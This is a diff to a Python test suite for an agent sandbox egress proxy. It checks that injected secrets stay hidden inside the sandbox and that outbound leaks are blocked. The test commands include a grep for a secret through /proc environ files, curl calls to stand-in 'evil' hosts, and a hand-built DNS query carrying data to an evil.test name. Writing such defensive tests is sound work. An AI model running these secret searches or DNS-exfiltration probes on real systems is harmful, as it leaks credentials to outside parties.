@@ -153,10 +153,11 @@ class Egress(Case):
         self.assertTrue(self.told(requests, host="registry.npmjs.org", method="PUT", decision="denied", status=403), requests)
 
     def test_a_secret_is_added_outside_and_never_inside(self):
+        before = len(self.world.seen)
         half = f"{SECRET[:9]}''{SECRET[9:]}"
         run = self.create("api", f"{CURL} -H 'Authorization: mine' https://api.example.com/whoami",
                           f"{CURL} https://api.example.com/echo 2>&1; echo; {CURL} https://api.example.com/encoded 2>&1",
-                          f"for word in {half}; do env | grep -c $word; grep -rl $word /workspace /home/agent /tmp /etc /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | wc -l; done",
+                          f"for word in {half}; do env | grep -c $word; printf %s $word | grep -rlf - /workspace /home/agent /tmp /etc /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | wc -l; done",
                           f"{CURL} -w '%{{http_code}}' -X DELETE https://api.example.com/whoami; {CURL} -w ' %{{http_code}}' -o /dev/null -L https://api.example.com/away 2>&1")
         (known, echo, inside, other), requests, events = self.ended(run)
         self.assertEqual(known, "known")
@@ -165,7 +166,7 @@ class Egress(Case):
         self.assertEqual(inside.split()[-1], "0")
         self.assertIn("403", other)
         self.assertEqual(self.world.to("evil.example.com"), [])
-        self.assertEqual({entry["authorization"] for entry in self.world.to("api.example.com") if entry["path"] in ("/whoami", "/echo")}, {f"Bearer {SECRET}"})
+        self.assertEqual({entry["authorization"] for entry in self.world.seen[before:] if entry["path"] in ("/whoami", "/echo")}, {f"Bearer {SECRET}"})
         self.assertEqual(len(self.told(requests, reason="secret_echo")), 2, requests)
         self.assertNotIn(SECRET, json.dumps(events))
         shown = subprocess.run([os.environ["AGENTROUTER_PROGRAM"], "serve", "--config", str(self.folder / "server.toml"), "--print-config"], capture_output=True, text=True).stdout
@@ -213,7 +214,7 @@ class Egress(Case):
         self.world.names["rebound.test"] = ["93.184.215.10", PRIVATE]
         code = f"{CURL} -o /dev/null -w '%{{http_code}}'"
         asks = ("import socket", "q=b'\\\\x12\\\\x34\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\5words\\\\4evil\\\\4test\\\\0\\\\0\\\\1\\\\0\\\\1'",
-                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)", "s.connect(('9.9.9.9',53))", "s.send(q)")
+                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)", "s.connect(('9.9.9.9',53))", "s.settimeout(9)", "s.send(q)", "s.recv(9)")
         run = self.create(
             "api",
             f"for host in secret-words.evil.test evil.example.net; do {code} http://$host/ 2>&1; echo; done; getent hosts more-words.evil.test; python3 -c \"{';'.join(asks)}\" 2>&1 | tail -1",
@@ -283,12 +284,16 @@ class Egress(Case):
         self.world.folder.chmod(0o755)
         for path in (config, data / "secret"):
             os.chown(path, 20001, 20001)
-        with Server(data=data / "data", user=20001, args=("--sim", "--config", str(config))) as server:
+        agents = data / "agents"  # which may lie where only root comes to
+        agents.mkdir()
+        subprocess.run(["mount", "--bind", os.environ.get("AGENTROUTER_AGENTS_DIR", "/opt/agentrouter/agents"), str(agents)], check=True)
+        self.addCleanup(subprocess.run, ["umount", str(agents)], check=True)
+        with Server(data=data / "data", user=20001, agents_dir=agents, args=("--sim", "--config", str(config))) as server:
             run = server.create(f"sim: sh {CURL} https://api.example.com/whoami; {CURL} http://metadata.example.com/ -o /dev/null -w ' %{{http_code}}'\nsim: reply Done.", policy="api")["id"]
             record, events = server.finish(run)
             self.assertEqual(record["status"], "completed", record.get("failure"))
-            self.assertEqual([e["payload"]["output"] for e in events if e["type"] == "agent.tool_completed"], ["known 403"])
-        shutil.rmtree(data)
+            self.assertEqual([e["payload"]["output"] for e in events if e["type"] == "agent.tool_completed"], ["known 502"])
+        shutil.rmtree(data / "data")
 
 
 if __name__ == "__main__":
